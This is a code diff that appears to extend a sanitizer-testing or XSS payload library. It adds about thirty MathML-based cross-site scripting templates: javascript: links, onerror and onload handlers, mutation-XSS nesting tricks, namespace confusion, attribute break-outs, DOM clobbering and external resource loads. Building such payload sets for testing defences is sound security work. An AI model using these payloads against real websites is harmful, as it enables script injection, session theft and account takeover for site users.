@@ -21,5 +21,52 @@ export const MATHML_PAYLOADS = family('maths', {
   'break-out': ({ js }) => `<math><p><img src="x:" onerror="${js}"></math>`,
   'break-out-by-font': ({ js }) => `<math><font color=red><img src="x:" onerror="${js}"></font></math>`,
   style: ({ js }) => `<math><style><img src="x:" onerror="${js}"></style></math>`,
+  'link-on-identifier': ({ js }) => `<math><mi href="javascript:${js}">x</mi><mn href="javascript:${js}">1</mn></math>`,
+  'link-on-row': ({ js }) => `<math><mrow href="javascript:${js}"><mi>x</mi></mrow></math>`,
+  'link-spelled-with-space': ({ js }) =>
+    `<math><mrow href="java&#10;script:${js}" xlink:href=" javascript:${js}"><mi>x</mi></mrow></math>`,
+  'link-on-own-namespace': ({ js }) =>
+    `<math xmlns:y="http://www.w3.org/1999/xlink"><mi y:href="javascript:${js}">x</mi></math>`,
+  'action-toggle': ({ js }) =>
+    `<math><maction actiontype="toggle" onclick="${js}"><mi>x</mi><mtext><img src="x:" onerror="${js}"></mtext></maction></math>`,
+  'action-tooltip': ({ js }) =>
+    `<math><maction actiontype="tooltip"><mi>x</mi><mtext><iframe srcdoc="<script>${js}</script>"></iframe></mtext></maction></math>`,
+  'annotation-page': ({ js }) =>
+    `<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><body onload="${js}"><script>${js}</script></body></annotation-xml></semantics></math>`,
+  'annotation-encoding-spelled': ({ js }) =>
+    `<math><annotation-xml encoding="TEXT/HTML "><img src="x:" onerror="${js}"></annotation-xml></math>`,
+  'annotation-plain': ({ js }) =>
+    `<math><semantics><mi>x</mi><annotation encoding="application/x-tex"><img src="x:" onerror="${js}"></annotation></semantics></math>`,
+  'annotation-source': ({ url }) =>
+    `<math><semantics><mi>x</mi><annotation src="${url}.txt"></annotation><annotation-xml src="${url}.xml"></annotation-xml></semantics></math>`,
+  'semantics-only': ({ js }) =>
+    `<math><semantics onclick="${js}"><mtext><a href="javascript:${js}">press</a></mtext></semantics></math>`,
+  'glyph-sources': ({ url }) =>
+    `<math><mi><mglyph src="${url}.svg" xlink:href="${url}.png" alt=x></mglyph></mi></math>`,
+  'style-loads': ({ url }) =>
+    `<math style="background:url(${url}.png)"><mstyle style="background-image:url(${url}.gif)"><mi>x</mi></mstyle></math>`,
+  'style-covers': ({ js }) => `<math style="position:fixed;inset:0;z-index:99" onclick="${js}"><mi>x</mi></math>`,
+  'colour-loads': ({ url }) =>
+    `<math mathbackground="url(${url}.png)" mathcolor="url(${url}.gif)"><mi mathvariant="url(${url}.svg)">x</mi></math>`,
+  'variant-breaks-out': ({ js }) => `<math><mi mathvariant='"><img src=x: onerror=${js}>'>x</mi></math>`,
+  'source-breaks-out': ({ js }) => `<math data-tex='"><img src=x: onerror=${js}>'><mi>x</mi></math>`,
+  'huge-sizes': ({ js }) =>
+    `<math><mspace width="999999em" height="999999em" /><mi mathsize="99999em" onmouseover="${js}">x</mi></math>`,
+  'namespace-html': ({ js }) => `<math xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></math>`,
+  'namespace-prefix': ({ js }) =>
+    `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mi href="javascript:${js}" onclick="${js}">x</m:mi></m:math>`,
+  'glyph-in-table': ({ js }) =>
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js}&gt;"></mglyph></table></mtext></math>`,
+  'form-and-glyph': ({ js }) => `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${js}">`,
+  'glyph-in-drawing': ({ js }) =>
+    `<math><mi><mglyph><svg><mtext><style><path id="</style><img src=x: onerror=${js}>"></path></style></mtext></svg></mglyph></mi></math>`,
+  'mark-that-stays': ({ js }) =>
+    `<math><mi><malignmark><style><img title="</style><img src=x: onerror=${js}>"></malignmark></mi></math>`,
+  'drawing-in-text': ({ js }) =>
+    `<math><mtext><svg><foreignObject><math><mi><img src="x:" onerror="${js}"></mi></math></foreignObject></svg></mtext></math>`,
+  'comment-in-style': ({ js }) => `<math><style><!--</style><mi title="--><img src=x: onerror=${js}>">x</mi></math>`,
+  'nested-math': ({ js }) =>
+    `<math><mtext><math><mtext><math href="javascript:${js}"><ms><script>${js}</script></ms></math></mtext></math></mtext></math>`,
+  'clobbers-names': () => `<math id="cookie"><mi name="body" id="location">x</mi></math>`,
   cdata: ({ js }) => `<math><![CDATA[><img src="x:" onerror="${js}">]]></math>`,
 })
